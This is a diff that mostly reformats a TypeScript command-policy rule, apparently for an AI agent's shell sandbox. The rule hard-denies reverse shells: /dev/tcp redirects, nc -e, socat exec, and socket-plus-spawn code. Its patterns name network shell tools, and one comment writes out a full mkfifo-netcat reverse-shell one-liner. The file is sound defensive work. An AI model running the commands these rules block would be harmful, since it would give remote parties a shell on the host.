@@ -1,22 +1,64 @@
-// Input: ./define-command-policy, ../network-programs (NETCATS)
-// Output: reverseShellPolicy — a shell wired to a network socket: redirections to /dev/tcp or /dev/udp, nc -e / ncat --sh-exec, socat exec: to tcp:, a pipeline joining netcat and a shell, inline code connecting a socket and spawning a shell: hard-deny
-// Pos: policies/security/commands/rules, one rule family; handing a remote party a shell on this machine is never the agent's call
+// reverseShellPolicy — a shell wired to a network socket: redirections to
+// /dev/tcp or /dev/udp, nc -e / ncat --sh-exec, socat exec: to tcp:, a pipeline
+// joining netcat and a shell, inline code connecting a socket and spawning a
+// shell: hard-deny
+// Pos: policies/security/commands/rules, one rule family; handing a remote
+// party a shell on this machine is never the agent's call
 import { NETCATS } from '../network-programs.js';
 import type { ShellCommand } from '../shell-command.js';
 import { defineCommandPolicy, stop } from './define-command-policy.js';
 import type { CommandHit } from './define-command-policy.js';
 
-const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish', 'csh', 'tcsh', 'mksh', 'cmd', 'pwsh', 'powershell']);
-const SOCKET_CODE = /\b(?:socket|TCPSocket|fsockopen|IO::Socket|net\.(?:Socket|connect|createConnection)|Socket\.new|require\(['"]net['"]\))/;
-const SPAWN_CODE = /\b(?:dup2|pty\.spawn|subprocess|Popen|proc_open|shell_exec|exec|spawn|system)\b|\/bin\/(?:ba)?sh|\bcmd\.exe\b/;
+const SHELLS = new Set([
+  'sh',
+  'bash',
+  'zsh',
+  'dash',
+  'ksh',
+  'ash',
+  'fish',
+  'csh',
+  'tcsh',
+  'mksh',
+  'cmd',
+  'pwsh',
+  'powershell',
+]);
+const SOCKET_CODE =
+  /\b(?:socket|TCPSocket|fsockopen|IO::Socket|net\.(?:Socket|connect|createConnection)|Socket\.new|require\(['"]net['"]\))/;
+const SPAWN_CODE =
+  /\b(?:dup2|pty\.spawn|subprocess|Popen|proc_open|shell_exec|exec|spawn|system)\b|\/bin\/(?:ba)?sh|\bcmd\.exe\b/;
 
 function why(command: ShellCommand): string | undefined {
-  const socket = command.redirects.find((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.value));
+  const socket = command.redirects.find((r) =>
+    /^\/dev\/(?:tcp|udp)\//.test(r.target.value),
+  );
   if (socket) return `redirects to ${socket.target.value}, a network socket`;
   const words = command.argv.slice(1).map((w) => w.value);
-  if (['nc', 'ncat', 'netcat', 'pwncat'].includes(command.name) && words.some((w) => /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)(?:=|$)/.test(w))) return `${command.name} -e hands a shell to the network`;
-  if (command.name === 'socat' && words.some((w) => /^(?:exec|system):/i.test(w)) && words.some((w) => /^(?:tcp|tcp4|tcp6|tcp-connect|tcp-listen|openssl|openssl-connect|udp|ssl)[:-]/i.test(w))) return 'socat joins a program to a network socket';
-  if (command.code?.text && command.code.language !== 'shell' && SOCKET_CODE.test(command.code.text) && SPAWN_CODE.test(command.code.text)) return `${command.name} code connects a socket and spawns a shell on it`;
+  if (
+    ['nc', 'ncat', 'netcat', 'pwncat'].includes(command.name) &&
+    words.some((w) =>
+      /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)(?:=|$)/.test(w),
+    )
+  )
+    return `${command.name} -e hands a shell to the network`;
+  if (
+    command.name === 'socat' &&
+    words.some((w) => /^(?:exec|system):/i.test(w)) &&
+    words.some((w) =>
+      /^(?:tcp|tcp4|tcp6|tcp-connect|tcp-listen|openssl|openssl-connect|udp|ssl)[:-]/i.test(
+        w,
+      ),
+    )
+  )
+    return 'socat joins a program to a network socket';
+  if (
+    command.code?.text &&
+    command.code.language !== 'shell' &&
+    SOCKET_CODE.test(command.code.text) &&
+    SPAWN_CODE.test(command.code.text)
+  )
+    return `${command.name} code connects a socket and spawns a shell on it`;
   return undefined;
 }
 
@@ -27,15 +69,37 @@ export const reverseShellPolicy = defineCommandPolicy({
     const hits: CommandHit[] = [];
     for (const command of analysis.commands) {
       const reason = why(command);
-      if (reason) hits.push({ subject: command.text, severity: 'hard-deny', message: `${reason}: a reverse shell`, next: stop('never run it') });
+      if (reason)
+        hits.push({
+          subject: command.text,
+          severity: 'hard-deny',
+          message: `${reason}: a reverse shell`,
+          next: stop('never run it'),
+        });
     }
-    // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: a shell and a netcat in one pipeline.
+    // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: a shell and a netcat
+    // in one pipeline.
     const pipelines = new Map<number, ShellCommand[]>();
-    for (const command of analysis.commands) if (command.pipeline) pipelines.set(command.pipeline.id, [...(pipelines.get(command.pipeline.id) ?? []), command]);
+    for (const command of analysis.commands)
+      if (command.pipeline)
+        pipelines.set(command.pipeline.id, [
+          ...(pipelines.get(command.pipeline.id) ?? []),
+          command,
+        ]);
     for (const stages of pipelines.values()) {
-      const shell = stages.find((c) => SHELLS.has(c.name) && (c.code === undefined || c.code.source === 'pipe'));
+      const shell = stages.find(
+        (c) =>
+          SHELLS.has(c.name) &&
+          (c.code === undefined || c.code.source === 'pipe'),
+      );
       const netcat = stages.find((c) => NETCATS.has(c.name));
-      if (shell && netcat) hits.push({ subject: shell.text, severity: 'hard-deny', message: `a pipeline joins ${shell.name} and ${netcat.name}: a reverse shell`, next: stop('never run it') });
+      if (shell && netcat)
+        hits.push({
+          subject: shell.text,
+          severity: 'hard-deny',
+          message: `a pipeline joins ${shell.name} and ${netcat.name}: a reverse shell`,
+          next: stop('never run it'),
+        });
     }
     return hits;
   },
